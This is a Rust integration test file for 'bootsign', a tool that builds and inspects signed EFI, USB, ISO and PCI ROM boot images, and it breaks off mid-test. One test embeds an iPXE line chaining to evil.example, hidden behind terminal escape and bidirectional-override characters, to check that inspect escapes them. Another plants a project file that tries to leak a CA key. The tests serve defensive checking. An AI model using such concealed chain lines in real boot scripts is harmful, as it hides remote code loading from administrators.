//! `bootsign build --efi` and `bootsign inspect`: what goes in comes out, byte for byte
//! the same each time, and bad input is refused with nothing written.

mod common;

use common::*;

fn pki(env: &Env) {
    env.ok(&["ca", "init", "--key", "p256", "--cn", "Build CA"]);
    env.ok(&["issue", "--client", "--key", "p256", "--cn", "node1"]);
    env.write("boot.ipxe", "#!ipxe\ndhcp\nchain http://${next-server}/boot.ipxe\n");
}

#[test]
fn inspect_shows_exactly_what_was_put_in() {
    let env = Env::new();
    pki(&env);
    let fp = env.ok(&["fingerprint", "ca.crt"]);
    let fp = fp.trim().trim_start_matches("sha256 Fingerprint=");
    let extra = "AA".repeat(32);
    let trust = format!("ca.crt,{extra}");
    env.ok(&[
        "build",
        "--efi",
        "--trust",
        &trust,
        "--cert",
        "client.crt",
        "--privkey",
        "client.key",
        "--embed",
        "boot.ipxe",
        "--crosscert",
        "http://ca.example/auto",
        "--require-signed-initrd",
    ]);
    assert_eq!(env.mode("bootsign.efi"), 0o600, "an image with a private key is private");
    let out = env.ok(&["inspect", "bootsign.efi"]);
    let extra_colon: Vec<&str> = (0..32).map(|_| "AA").collect();
    let expected = [
        "firmware     bootsign 0.1.0".to_string(),
        "trusted      2 root(s)".into(),
        format!("  {fp}  CN=Build CA"),
        format!("  {}  (certificate not embedded)", extra_colon.join(":")),
        "certificates 2".into(),
        "  CN=Build CA  (SHA-256 ".into(),
        "  CN=node1  (SHA-256 ".into(),
        "client key   present (not shown)".into(),
        "crosscert    http://ca.example/auto".into(),
        "policy\n  autodhcp           on\n  crl-require-fresh  off\n  require-signed     all\n  tls-min            1.2\n"
            .into(),
        "script".into(),
        "  #!ipxe".into(),
        "  chain http://${next-server}/boot.ipxe".into(),
    ];
    for line in expected {
        assert!(out.contains(&line), "{line:?} not in:\n{out}");
    }
    assert!(out.starts_with("image        bootsign.efi (EFI program: EFI application, x86-64, "), "{out}");
    let key_text = String::from_utf8(env.read("client.key")).unwrap();
    assert!(!out.contains(&key_text[30..60]), "the key is never shown");
    // The image is a valid PE whose checksum is right.
    let bytes = env.read("bootsign.efi");
    let pe = bootsign_pe::Pe::parse(&bytes).unwrap();
    assert_eq!(pe.checksum().unwrap(), bootsign_pe::pe_checksum(&bytes, pe.checksum_range()));
}

#[test]
fn the_plain_default_image() {
    let env = Env::new();
    pki(&env);
    env.ok(&["build", "--efi", "--trust", "ca.crt", "-o", ".", "--output-name", "plain"]);
    assert_eq!(env.mode("plain.efi"), 0o644);
    let out = env.ok(&["inspect", "plain.efi"]);
    assert!(
        out.contains("client key   none")
            && out.contains("script       default (dhcp, then chain ${filename})"),
        "{out}"
    );
    // The typed policy, defaults included.
    assert!(
        out.contains(
            "\npolicy\n  autodhcp           on\n  crl-require-fresh  off\n  require-signed     off\n  tls-min            1.2\n"
        ),
        "{out}"
    );
    // Every policy option reaches the image, as the firmware will read it.
    env.ok(&[
        "build",
        "--efi",
        "--trust",
        "ca.crt",
        "--output-name",
        "strict",
        "--require-signed",
        "--tls-min",
        "1.3",
        "--no-autodhcp",
    ]);
    let out = env.ok(&["inspect", "strict.efi"]);
    assert!(
        out.contains(
            "\npolicy\n  autodhcp           off\n  crl-require-fresh  off\n  require-signed     program\n  tls-min            1.3\n"
        ),
        "{out}"
    );
}

#[test]
fn builds_are_byte_identical() {
    let env = Env::new();
    pki(&env);
    std::fs::create_dir(env.path("a")).unwrap();
    std::fs::create_dir(env.path("b")).unwrap();
    let args = [
        "build",
        "--efi",
        "--trust",
        "ca.crt",
        "--cert",
        "client.crt",
        "--privkey",
        "client.key",
        "--embed",
        "boot.ipxe",
    ];
    env.ok(&[&args[..], &["-o", "a"]].concat());
    env.ok(&[&args[..], &["-o", "b"]].concat());
    assert_eq!(env.read("a/bootsign.efi"), env.read("b/bootsign.efi"));
}

fn refused(env: &Env, args: &[&str], expect: &str) {
    common::refused(env, args, &[expect]);
}

#[test]
fn bad_input_is_refused_and_nothing_is_written() {
    let env = Env::new();
    pki(&env);
    env.write("nocert.pem", "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n");
    refused(&env, &["build", "--efi", "--trust", "nocert.pem"], "'nocert.pem' holds no certificate");
    env.ok(&["issue", "--codesigning", "--key", "p256"]);
    refused(
        &env,
        &["build", "--efi", "--trust", "ca.crt", "--cert", "client.crt", "--privkey", "codesign.key"],
        "the key 'codesign.key' matches none of the --cert certificates",
    );
    refused(
        &env,
        &["build", "--efi", "--trust", "ca.crt", "--embed", "missing.ipxe"],
        "failed to read the script 'missing.ipxe'",
    );
    env.write("empty.ipxe", "\n");
    refused(
        &env,
        &["build", "--efi", "--trust", "ca.crt", "--embed", "empty.ipxe"],
        "the script 'empty.ipxe' is empty",
    );
    env.write("plain.txt", "dhcp\n");
    refused(
        &env,
        &["build", "--efi", "--trust", "ca.crt", "--embed", "plain.txt"],
        "its first line must be #!ipxe",
    );
    // A script the firmware cannot run is refused with each line and why; --force builds.
    env.write("menu.ipxe", "#!ipxe\nvcreate --tag 5 net0\ngoto nowhere\n");
    let err = env.fails(&["build", "--efi", "--trust", "ca.crt", "--embed", "menu.ipxe"]);
    assert!(err.contains("the firmware cannot run every line of 'menu.ipxe'"), "{err}");
    assert!(
        err.contains("menu.ipxe:2: vcreate --tag 5 net0\n    vcreate: not supported by bootsign yet"),
        "{err}"
    );
    assert!(err.contains("menu.ipxe:3: goto nowhere\n    goto: no label ':nowhere' in this script"), "{err}");
    assert!(err.contains("(build with --force to embed it anyway)"), "{err}");
    assert!(!env.path("bootsign.efi").exists(), "nothing is written for a refused script");
    let out = env.run(&["build", "--efi", "--trust", "ca.crt", "--embed", "menu.ipxe", "--force"]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("warning: embedding 'menu.ipxe' although"));
    std::fs::remove_file(env.path("bootsign.efi")).unwrap();
    refused(
        &env,
        &["build", "--efi", "--trust", "ca.crt", "-o", "no/such/dir"],
        "the output directory 'no/such/dir' does not exist",
    );
    refused(&env, &["build", "--no-config", "--trust", "ca.crt"], "choose an output format: --efi");
    refused(&env, &["build", "--efi", "--crosscert", "ftp://x/"], "--crosscert 'ftp://x/' is not usable");
    env.ok(&["build", "--efi", "--trust", "ca.crt"]);
    refused(&env, &["build", "--efi", "--trust", "ca.crt"], "refusing to overwrite 'bootsign.efi'");
    env.ok(&["build", "--efi", "--trust", "ca.crt", "--force"]);
    // inspect: not an image, or not ours.
    refused(&env, &["inspect", "ca.crt"], "'ca.crt' is not a bootsign image: not a PE image");
    let mut pe = env.read("bootsign.efi");
    let at = pe.windows(26).position(|w| w == b"BOOTSIGN-FIRMWARE-VERSION=").unwrap();
    pe[at] = b'X';
    env.write("foreign.efi", &pe);
    refused(
        &env,
        &["inspect", "foreign.efi"],
        "'foreign.efi' is not a bootsign image: it holds no bootsign firmware",
    );
    refused(&env, &["inspect", "absent.efi"], "failed to read 'absent.efi'");
}

#[test]
fn usb_image_is_a_gpt_disk_with_an_esp_standard_tools_read() {
    let env = Env::new();
    pki(&env);
    env.ok(&["build", "--efi", "--usb", "--trust", "ca.crt", "--embed", "boot.ipxe"]);
    let sfdisk =
        std::process::Command::new("sfdisk").arg("-l").arg(env.path("bootsign.usb")).output().unwrap();
    let text = String::from_utf8_lossy(&sfdisk.stdout);
    assert!(sfdisk.status.success(), "{text}");
    assert!(text.contains("Disklabel type: gpt"), "{text}");
    assert!(text.contains("2048") && text.contains("EFI System"), "{text}");
    // And for BIOS: a BIOS boot partition (the loader, then the firmware), and the
    // loader's first 440 bytes as the protective MBR's boot code.
    assert!(text.contains("BIOS boot"), "{text}");
    let usb = env.read("bootsign.usb");
    assert_eq!(usb[0], 0xeb, "no MBR boot code");
    let lkrn = text.lines().find(|l| l.contains("BIOS boot")).unwrap();
    let start: usize = lkrn.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert_eq!(&usb[start * 512 + 2044..start * 512 + 2048], b"BSDB", "the loader opens the partition");
    assert_eq!(&usb[start * 512 + 2048 + 0x202..start * 512 + 2048 + 0x206], b"HdrS", "the firmware follows");
    let mdir = std::process::Command::new("mdir")
        .env("MTOOLS_SKIP_CHECK", "1")
        .arg("-i")
        .arg(format!("{}@@1M", env.path("bootsign.usb").display()))
        .arg("::/EFI/BOOT")
        .output()
        .unwrap();
    let listing = String::from_utf8_lossy(&mdir.stdout);
    assert!(mdir.status.success(), "{listing}{}", String::from_utf8_lossy(&mdir.stderr));
    let efi_len = env.read("bootsign.efi").len();
    // mdir right-aligns sizes in a fixed column: compare fields, not spacing.
    let entry = ["BOOTX64".to_string(), "EFI".into(), efi_len.to_string(), "1980-01-01".into()];
    assert!(
        listing.lines().any(|l| l.split_whitespace().map(String::from).take(4).eq(entry.iter().cloned())),
        "{listing}"
    );
    // The program inside is the EFI image, byte for byte.
    let copy = std::process::Command::new("mcopy")
        .env("MTOOLS_SKIP_CHECK", "1")
        .arg("-i")
        .arg(format!("{}@@1M", env.path("bootsign.usb").display()))
        .arg("::/EFI/BOOT/BOOTX64.EFI")
        .arg(env.path("extracted.efi"))
        .status()
        .unwrap();
    assert!(copy.success());
    assert_eq!(env.read("extracted.efi"), env.read("bootsign.efi"));
    let out = env.ok(&["inspect", "bootsign.usb"]);
    assert!(out.contains("(USB disk image: EFI application") && out.contains("  CN=Build CA"), "{out}");
    // Reproducible, and SOURCE_DATE_EPOCH sets the file times.
    let first = env.read("bootsign.usb");
    env.ok(&["build", "--usb", "--trust", "ca.crt", "--embed", "boot.ipxe", "--force"]);
    assert_eq!(env.read("bootsign.usb"), first);
    let dated = env
        .cmd(&["build", "--usb", "--trust", "ca.crt", "--embed", "boot.ipxe", "--output-name", "dated"])
        .env("SOURCE_DATE_EPOCH", "1795565700")
        .output()
        .unwrap();
    assert!(dated.status.success());
    assert_ne!(env.read("dated.usb"), first);
}

#[test]
fn iso_image_has_bios_and_uefi_el_torito_entries_and_a_hybrid_mbr() {
    let env = Env::new();
    pki(&env);
    env.ok(&["build", "--efi", "--iso", "--trust", "ca.crt", "--embed", "boot.ipxe"]);
    let report = std::process::Command::new("xorriso")
        .args(["-indev"])
        .arg(env.path("bootsign.iso"))
        .args(["-report_el_torito", "plain"])
        .output()
        .unwrap();
    let text =
        format!("{}{}", String::from_utf8_lossy(&report.stdout), String::from_utf8_lossy(&report.stderr));
    assert!(report.status.success(), "{text}");
    assert!(text.contains("Volume id    : 'BOOTSIGN'"), "{text}");
    // The BIOS loader first (no emulation, loaded whole: 4 sectors), then the ESP for UEFI.
    let entries: Vec<Vec<&str>> = text
        .lines()
        .filter(|l| l.starts_with("El Torito boot img :"))
        .map(|l| l.split_whitespace().skip(5).collect())
        .collect();
    assert_eq!(entries.len(), 2, "{text}");
    assert_eq!(&entries[0][..4], ["1", "BIOS", "y", "none"], "{text}");
    assert_eq!(entries[0][6], "4", "{text}");
    assert_eq!(&entries[1][..4], ["2", "UEFI", "y", "none"], "{text}");
    // The MBR's boot code is the loader's first 440 bytes (a jump over its parameters).
    let iso = env.read("bootsign.iso");
    assert_eq!(iso[0], 0xeb, "no MBR boot code");
    assert_eq!(&iso[510..512], &[0x55, 0xaa]);
    let sfdisk =
        std::process::Command::new("sfdisk").arg("-l").arg(env.path("bootsign.iso")).output().unwrap();
    let table = String::from_utf8_lossy(&sfdisk.stdout);
    assert!(table.contains(" ef EFI"), "{table}");
    let out = env.ok(&["inspect", "bootsign.iso"]);
    assert!(out.contains("(hybrid ISO image: EFI application"), "{out}");
    assert!(
        out.contains("for legacy BIOS (") && out.contains("with the same configuration as the EFI program")
    );
    // The BIOS half changed after the build (its embedded script, the last copy in the
    // image): inspect says the halves differ, and fails.
    let mut changed = iso.clone();
    let script = b"#!ipxe";
    let at = changed.windows(script.len()).rposition(|w| w == script).unwrap();
    changed[at + 2] = b'X';
    env.write("changed.iso", &changed);
    let err = env.fails(&["inspect", "changed.iso"]);
    assert!(err.contains("the BIOS and EFI halves of the image carry different configurations"), "{err}");
    let first = env.read("bootsign.iso");
    env.ok(&["build", "--iso", "--trust", "ca.crt", "--embed", "boot.ipxe", "--force"]);
    assert_eq!(env.read("bootsign.iso"), first, "reproducible");
}

#[test]
fn rom_is_a_pci_expansion_rom_file_recognises() {
    let env = Env::new();
    pki(&env);
    env.ok(&["build", "--rom", "--pci", "1af4:1000", "--trust", "ca.crt", "--embed", "boot.ipxe"]);
    let rom = env.read("bootsign.rom");
    assert_eq!(rom.len() % 512, 0);
    // Three images, chained by their PCI data structures' lengths: the legacy BIOS image
    // (which a BIOS copies, checks and runs), the BIOS firmware (code type 0xFF, passed
    // over), the EFI driver (code type 3, the last).
    let mut images = Vec::new();
    let mut at = 0;
    loop {
        let img = &rom[at..];
        assert_eq!(&img[..2], &[0x55, 0xaa], "image at {at}");
        let pcir = usize::from(u16::from_le_bytes([img[0x18], img[0x19]]));
        assert_eq!(&img[pcir..pcir + 4], b"PCIR");
        assert_eq!(&img[pcir + 4..pcir + 8], &[0xf4, 0x1a, 0x00, 0x10], "1af4:1000");
        let len = usize::from(u16::from_le_bytes([img[pcir + 0x10], img[pcir + 0x11]])) * 512;
        images.push((at, len, img[pcir + 0x14]));
        if img[pcir + 0x15] & 0x80 != 0 {
            break;
        }
        at += len;
    }
    assert_eq!(images.iter().map(|i| i.2).collect::<Vec<_>>(), [0, 0xff, 3]);
    assert_eq!(images[2].0 + images[2].1, rom.len());
    let (legacy, efi) = (&rom[..images[0].1], &rom[images[2].0..]);
    for (what, img) in [("legacy", legacy), ("EFI", efi)] {
        assert_eq!(img.iter().fold(0u8, |s, b| s.wrapping_add(*b)), 0, "{what} checksum");
    }
    assert_eq!(usize::from(legacy[2]) * 512, legacy.len(), "the legacy image's size byte");
    assert!(legacy.len() <= 1024, "the legacy image takes little option ROM space");
    assert_eq!(usize::from(u16::from_le_bytes([efi[2], efi[3]])) * 512, efi.len());
    let file = std::process::Command::new("file").arg(env.path("bootsign.rom")).output().unwrap();
    let text = String::from_utf8_lossy(&file.stdout);
    assert!(
        text.contains("ROM Ext.")
            && text.contains("PNP network controller")
            && text.contains("PCI Virtio device=0x1000"),
        "{text}"
    );
    let out = env.ok(&["inspect", "bootsign.rom"]);
    for line in [
        "(PCI expansion ROM: EFI boot-service driver",
        "pci          1af4:1000",
        "for legacy BIOS (",
        "with the same configuration as the EFI program",
    ] {
        assert!(out.contains(line), "{line:?} in:\n{out}");
    }
    // Another combined ROM (QEMU's iPXE one: legacy image, then EFI) is read through its
    // chain too, and is not taken for bootsign's.
    let err = env.fails(&["inspect", "/usr/lib/ipxe/qemu/efi-virtio.rom"]);
    assert!(err.contains("is not a bootsign image: it holds no bootsign firmware"), "{err}");
    let before = env.snapshot();
    for (args, expect) in [
        (&["build", "--rom", "--trust", "ca.crt"][..], "--rom needs the NIC's PCI IDs"),
        (
            &["build", "--rom", "--pci", "1af4", "--trust", "ca.crt", "--output-name", "x"][..],
            "'1af4' is not a PCI ID",
        ),
        (
            &["build", "--rom", "--pci", "1af4:1000,8086:100e", "--trust", "ca.crt", "--output-name", "x"][..],
            "one ROM serves one vendor",
        ),
    ] {
        let err = env.fails(args);
        assert!(err.contains(expect), "{err}");
    }
    assert_eq!(env.snapshot(), before);
    // All four at once, in one call.
    env.ok(&[
        "build",
        "--efi",
        "--iso",
        "--usb",
        "--rom",
        "--pci",
        "8086:100e,8086:10d3",
        "--trust",
        "ca.crt",
        "--output-name",
        "all",
    ]);
    for ext in ["efi", "iso", "usb", "rom"] {
        assert!(env.path(&format!("all.{ext}")).is_file(), "{ext}");
    }
    assert!(env.ok(&["inspect", "all.rom"]).contains("pci          8086:100e, 8086:10d3"));
}

#[test]
fn the_project_file_makes_a_repeatable_build_and_flags_override_it() {
    let env = Env::new();
    pki(&env);
    // ca init wrote a project file: EFI and ISO images trusting ca.crt.
    let project = String::from_utf8(env.read("bootsign.toml")).unwrap();
    assert!(
        project.contains("formats = [\"efi\", \"iso\"]") && project.contains("trust = [\"ca.crt\"]"),
        "{project}"
    );
    env.ok(&["build"]);
    assert!(env.path("bootsign.efi").is_file() && env.path("bootsign.iso").is_file());
    assert!(!env.path("bootsign.usb").exists());
    let out = env.ok(&["inspect", "bootsign.efi"]);
    assert!(out.contains("CN=Build CA") && out.contains("script       default"), "{out}");
    // Flags override the file; the file's paths are relative to it.
    std::fs::create_dir(env.path("proj")).unwrap();
    std::fs::create_dir(env.path("proj/out")).unwrap();
    std::fs::copy(env.path("ca.crt"), env.path("proj/root.crt")).unwrap();
    std::fs::copy(env.path("boot.ipxe"), env.path("proj/boot.ipxe")).unwrap();
    env.write(
        "proj/bootsign.toml",
        "[build]\nformats = [\"usb\"]\ntrust = [\"root.crt\"]\nembed = \"boot.ipxe\"\nrequire-signed = true\nout-dir = \"out\"\noutput-name = \"node\"\n",
    );
    env.ok(&["build", "--config", "proj/bootsign.toml"]);
    let out = env.ok(&["inspect", "proj/out/node.usb"]);
    assert!(
        out.contains("  require-signed     program\n")
            && out.contains("chain http://${next-server}/boot.ipxe"),
        "{out}"
    );
    env.ok(&["build", "--config", "proj/bootsign.toml", "--efi", "--output-name", "other"]);
    assert!(env.path("proj/out/other.efi").is_file() && !env.path("proj/out/other.usb").exists());
    env.write("bad.toml", "[build]\nformats = [\"floppy\"]\n");
    let err = env.fails(&["build", "--config", "bad.toml"]);
    assert!(err.contains("'bad.toml': unknown format 'floppy'"), "{err}");
    env.write("bad2.toml", "[build]\ntrsut = []\n");
    let err = env.fails(&["build", "--config", "bad2.toml"]);
    assert!(err.contains("'bad2.toml' is not a valid project file") && err.contains("trsut"), "{err}");
}

#[test]
fn encrypted_client_keys_need_their_passphrase() {
    let env = Env::new();
    pki(&env);
    env.write("pass", "client-pass\n");
    env.openssl_ok(&[
        "pkcs8",
        "-topk8",
        "-v2",
        "aes256",
        "-in",
        "client.key",
        "-passout",
        "file:pass",
        "-out",
        "enc.key",
    ]);
    refused(
        &env,
        &["build", "--efi", "--trust", "ca.crt", "--cert", "client.crt", "--privkey", "enc.key"],
        "'enc.key' is encrypted and no passphrase was given",
    );
    env.ok(&[
        "--passphrase-file",
        "pass",
        "build",
        "--efi",
        "--trust",
        "ca.crt",
        "--cert",
        "client.crt",
        "--privkey",
        "enc.key",
    ]);
    assert!(env.ok(&["inspect", "bootsign.efi"]).contains("client key   present (not shown)"));
}

#[test]
fn only_a_tls_client_key_may_be_embedded() {
    let env = Env::new();
    env.ok(&["ca", "init", "--key", "p256", "--cn", "Key CA"]);
    env.ok(&["issue", "--client", "--key", "p256", "--cn", "node12", "-o", "node12"]);
    env.ok(&["issue", "--codesigning", "--key", "p256"]);
    env.ok(&["issue", "--server", "--key", "p256", "--cn", "boot.example.lan"]);
    let build = |cert: &str, key: &str| {
        vec![
            "build".to_string(),
            "--no-config".into(),
            "--efi".into(),
            "--force".into(),
            "--trust".into(),
            "ca.crt".into(),
            "--cert".into(),
            cert.into(),
            "--privkey".into(),
            key.into(),
        ]
    };
    for (cert, key, why) in [
        ("ca.crt", "ca.key", "it is the key of the CA in this CA directory"),
        ("codesign.crt", "codesign.key", "it is a code-signing key (\"/CN=bootsign code signing\")"),
        (
            "server.crt",
            "server.key",
            "it is the key of \"/CN=boot.example.lan\", whose certificate is not for TLS clients (no clientAuth)",
        ),
    ] {
        let args = build(cert, key);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        common::refused(
            &env,
            &args,
            &[&format!("refusing to embed '{key}' in the images: {why}"), "bootsign issue --client"],
        );
    }
    // Another CA's root key, given with its certificate.
    env.openssl_cert("other", None, "/CN=Other Root", CA_EXT);
    let args = build("other.crt", "other.key");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    common::refused(&env, &args, &["it is the key of CA certificate \"/CN=Other Root\""]);
    // The client key is accepted and named in the summary.
    let args = build("node12.crt", "node12.key");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = env.run(&args);
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{said}");
    assert!(said.contains("client key   node12.key (for \"/CN=node12\")"), "{said}");
}

#[test]
fn a_planted_project_file_cannot_leak_a_key_and_its_settings_are_named() {
    let env = Env::new();
    env.ok(&["ca", "init", "--key", "p256", "--cn", "Key CA"]);
    // A project file that tries to embed the CA key into an ordinary build.
    env.write("bootsign.toml", "[build]\nformats = [\"efi\"]\ncert = [\"ca.crt\"]\nprivkey = \"ca.key\"\n");
    common::refused(
        &env,
        &["build", "--efi", "--trust", "ca.crt"],
        &["refusing to embed 'ca.key' in the images"],
    );
    // Settings from the file are listed by name.
    env.write("bootsign.toml", "[build]\nformats = [\"efi\"]\ntrust = [\"ca.crt\"]\nrequire-signed = true\n");
    let out = env.run(&["build"]);
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{said}");
    assert!(said.contains("from bootsign.toml: formats, trust, require-signed"), "{said}");
    // A file others may write, or another user's, is not followed.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(env.path("bootsign.toml"), std::fs::Permissions::from_mode(0o666)).unwrap();
    common::refused(
        &env,
        &["build", "--force"],
        &["refusing to use the project file 'bootsign.toml': others may write to it (mode 666)"],
    );
    std::fs::set_permissions(env.path("bootsign.toml"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::chown(env.path("bootsign.toml"), Some(4242), None).unwrap();
    common::refused(&env, &["build", "--force"], &["it belongs to another user (uid 4242)"]);
    env.ok(&["build", "--force", "--no-config", "--efi", "--trust", "ca.crt"]);
}

#[test]
fn inspect_shows_script_control_characters_escaped() {
    let env = Env::new();
    pki(&env);
    // A line that, printed raw, would return to the start of the line and erase it,
    // hiding the `chain` it carries behind the harmless text that follows.
    env.write("hostile.ipxe", "#!ipxe\nchain http://evil.example/\r\x1b[2Kecho \\x1b safe\u{202e}\ndhcp\n");
    env.ok(&["build", "--efi", "--trust", "ca.crt", "--embed", "hostile.ipxe"]);
    let out = env.ok(&["inspect", "bootsign.efi"]);
    assert!(!out.contains('\x1b') && !out.contains('\r') && !out.contains('\u{202e}'), "{out:?}");
    let script: Vec<&str> = out.lines().skip_while(|l| *l != "script").skip(1).collect();
    assert_eq!(
        script,
        ["  #!ipxe", "  chain http://evil.example/\\r\\x1b[2Kecho \\\\x1b safe\\u{202e}", "  dhcp",],
        "{out}"
    );
    // Settings and the crosscert URL of a hand-made configuration (`build` only writes
    // values it checked).
    let cfg = bootsign_config::Config {
        settings: vec![("tls-min\x1b[8m", "1.2\r")],
        crosscert: Some("http://ca.example/\u{2066}x"),
        script: Some("#!ipxe\n"),
        ..Default::default()
    };
    let image = bootsign_pe::add_section(
        bootsign::firmware::TEMPLATE,
        bootsign_pe::CONFIG_SECTION,
        &cfg.encode().unwrap(),
    )
    .unwrap();
    env.write("made.efi", image);
    // A policy the firmware cannot read: shown (escaped), and inspect fails as the
    // firmware would.
    let run = env.run(&["inspect", "made.efi"]);
    let (out, err) = (String::from_utf8_lossy(&run.stdout), String::from_utf8_lossy(&run.stderr));
    assert!(!run.status.success(), "{out}");
    assert!(out.contains("\n  tls-min\\x1b[8m=1.2\\r\n"), "{out}");
    assert!(out.contains("\ncrosscert    http://ca.example/\\u{2066}x\n"), "{out}");
    assert!(
        out.contains("\npolicy       unusable: the policy setting 'tls-min\\x1b[8m' is not one"),
        "{out}"
    );
    assert!(
        err.contains(
            "'made.efi': the firmware will refuse to boot this image: the policy setting 'tls-min\\x1b[8m'"
        ),
        "{err}"
    );
    assert!(!err.contains('\x1b'), "{err:?}");
}

/// The FAT file system inside a built image, found by parsing (GPT or El Torito, then
/// the boot sector), so damage can be put exactly where it is meant to go.
struct Fat {
    bits: u32,
    fats: Vec<usize>,
    root_at: usize,
    root_bytes: usize,
    data_at: usize,
    cluster_bytes: usize,
    clusters: u32,
}

/// A directory entry: where it is in the image, its first cluster and size.
struct DirEntry {
    at: usize,
    cluster: u32,
}

fn le16(b: &[u8], at: usize) -> usize {
    u16::from_le_bytes([b[at], b[at + 1]]).into()
}

fn le32(b: &[u8], at: usize) -> usize {
    u32::from_le_bytes(b[at..at + 4].try_into().unwrap()) as usize
}

impl Fat {
    /// The ESP of a `--usb` image (the GPT's first partition).
    fn of_usb(img: &[u8]) -> Self {
        assert_eq!(&img[512..520], b"EFI PART");
        let entries = le32(img, 512 + 72) * 512;
        Self::at(img, le32(img, entries + 32) * 512)
    }

    /// The ESP of an `--iso` image: the image of the UEFI (platform 0xEF) El Torito entry,
    /// the default one or the one of the section after the BIOS default.
    fn of_iso(img: &[u8]) -> Self {
        let br = &img[17 * 2048..18 * 2048];
        assert_eq!(&br[7..30], b"EL TORITO SPECIFICATION");
        let catalog = le32(br, 71) * 2048;
        let entry = if img[catalog + 1] == 0xef {
            catalog + 32
        } else {
            assert_eq!(&img[catalog + 64..catalog + 66], &[0x91, 0xef], "no UEFI section");
            catalog + 96
        };
        Self::at(img, le32(img, entry + 8) * 2048)
    }

    fn at(img: &[u8], base: usize) -> Self {
        let b = &img[base..base + 512];
        let sector = le16(b, 11);
        let per_cluster = usize::from(b[13]);
        let reserved = le16(b, 14);
        let nfats = usize::from(b[16]);
        let root_entries = le16(b, 17);
        let total = if le16(b, 19) != 0 { le16(b, 19) } else { le32(b, 32) };
        let fat_sectors = if le16(b, 22) != 0 { le16(b, 22) } else { le32(b, 36) };
        let root_sectors = (root_entries * 32).div_ceil(sector);
        let data = reserved + nfats * fat_sectors + root_sectors;
        let clusters = ((total - data) / per_cluster) as u32;
        let bits = match clusters {
            0..4085 => 12,
            4085..65525 => 16,
            _ => panic!("the ESP is FAT32; this helper reads FAT12/16"),
        };
        Self {
            bits,
            fats: (0..nfats).map(|i| base + (reserved + i * fat_sectors) * sector).collect(),
            root_at: base + (reserved + nfats * fat_sectors) * sector,
            root_bytes: root_sectors * sector,
            data_at: base + data * sector,
            cluster_bytes: sector * per_cluster,
            clusters,
        }
    }

    fn get(&self, img: &[u8], n: u32) -> u32 {
        let n = n as usize;
        let fat = self.fats[0];
        match self.bits {
            12 if n.is_multiple_of(2) => (le16(img, fat + n + n / 2) & 0xfff) as u32,
            12 => (le16(img, fat + n + n / 2) >> 4) as u32,
            _ => le16(img, fat + 2 * n) as u32,
        }
    }

    /// Sets cluster `n`'s entry to `v` in every FAT.
    fn set(&self, img: &mut [u8], n: u32, v: u32) {
        let (n, v) = (n as usize, v as usize);
        for &fat in &self.fats {
            match self.bits {
                12 => {
                    let at = fat + n + n / 2;
                    let old = le16(img, at);
                    let new =
                        if n.is_multiple_of(2) { (old & 0xf000) | v } else { (old & 0x000f) | (v << 4) };
                    img[at..at + 2].copy_from_slice(&(new as u16).to_le_bytes());
                }
                _ => img[fat + 2 * n..fat + 2 * n + 2].copy_from_slice(&(v as u16).to_le_bytes()),
            }
        }
    }

    fn chain(&self, img: &[u8], first: u32) -> Vec<u32> {
        let end = if self.bits == 12 { 0xff8 } else { 0xfff8 };
        let mut out = vec![first];
        loop {
            let next = self.get(img, *out.last().unwrap());
            if next >= end {
                return out;
            }
            out.push(next);
        }
    }

    /// The entry `name` (8.3, as stored) in the directory at `cluster` (0: the root).
    fn entry(&self, img: &[u8], cluster: u32, name: &[u8; 11]) -> DirEntry {
        let spans: Vec<(usize, usize)> = if cluster == 0 {
            vec![(self.root_at, self.root_bytes)]
        } else {
            self.chain(img, cluster)
                .iter()
                .map(|&c| (self.data_at + (c as usize - 2) * self.cluster_bytes, self.cluster_bytes))
                .collect()
        };
        for (start, len) in spans {
            for at in (start..start + len).step_by(32) {
                if &img[at..at + 11] == name {
                    return DirEntry { at, cluster: le16(img, at + 26) as u32 };
                }
            }
        }
        panic!("{} not found", String::from_utf8_lossy(name));
    }

    /// EFI, EFI/BOOT and EFI/BOOT/BOOTX64.EFI.
    fn boot_path(&self, img: &[u8]) -> [DirEntry; 3] {
        let efi = self.entry(img, 0, b"EFI        ");
        let boot = self.entry(img, efi.cluster, b"BOOT       ");
        let file = self.entry(img, boot.cluster, b"BOOTX64 EFI");
        [efi, boot, file]
    }
}

/// Runs bootsign, which must fail within `secs` seconds (it is killed otherwise).
fn fails_quickly(env: &Env, args: &[&str], secs: u64) -> String {
    let mut child = env
        .cmd(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed().as_secs() >= secs {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("bootsign {args:?} still ran after {secs} s");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1), "bootsign {args:?}: {out:?}");
    String::from_utf8(out.stderr).unwrap()
}

#[test]
fn inspect_reports_a_looping_or_overlong_fat_instead_of_hanging() {
    let env = Env::new();
    pki(&env);
    env.ok(&["build", "--usb", "--iso", "--trust", "ca.crt", "--embed", "boot.ipxe"]);
    let usb = env.read("bootsign.usb");
    let iso = env.read("bootsign.iso");
    let damaged = |name: &str, image: &[u8], expect: &str| {
        env.write(name, image);
        let err = fails_quickly(&env, &["inspect", name], 20);
        assert!(err.contains(&format!("error: '{name}': {expect}")), "{err}");
    };

    // A USB image whose EFI directory's chain points back at itself.
    let fat = Fat::of_usb(&usb);
    let [efi, boot, file] = fat.boot_path(&usb);
    let mut img = usb.clone();
    fat.set(&mut img, efi.cluster, efi.cluster);
    damaged("dirloop.usb", &img, "the FAT is damaged: the cluster chain of EFI loops");

    // An ISO whose EFI/BOOT directory's chain runs into a two-cluster cycle.
    let iso_fat = Fat::of_iso(&iso);
    let [_, iso_boot, _] = iso_fat.boot_path(&iso);
    let spare = iso_fat.clusters + 1;
    let mut img = iso.clone();
